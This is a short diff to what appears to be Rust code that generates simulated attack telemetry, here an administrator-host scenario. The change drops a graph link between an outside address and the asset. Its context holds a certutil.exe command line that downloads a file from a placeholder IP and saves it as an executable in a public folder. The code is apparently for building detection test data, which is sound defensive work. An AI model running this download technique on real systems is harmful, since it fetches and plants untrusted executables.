@@ -53,11 +53,10 @@ fn takes_administrator(tale: &mut Tale<'_>) {
         image: r"C:\Windows\System32\certutil.exe",
         command: r"certutil.exe -urlcache -f http://203.0.113.90/s.txt C:\Users\Public\sync.exe",
     };
-    let fetched = tale.command(at, &ADM01, fetch);
+    tale.command(at, &ADM01, fetch);
     let wire = tale.pen.wire(ADM01.ip, OUTSIDE, 80);
     let event = tale.pen.conn(at.plus(SECOND), &wire, "http", 2);
-    let conn = tale.quiet(event);
-    tale.hop("address:203.0.113.90", "asset:adm01", "flow", None, vec![fetched, conn]);
+    tale.quiet(event);
     let task = Launch {
         account: ADMIN,
         parent: CMD,
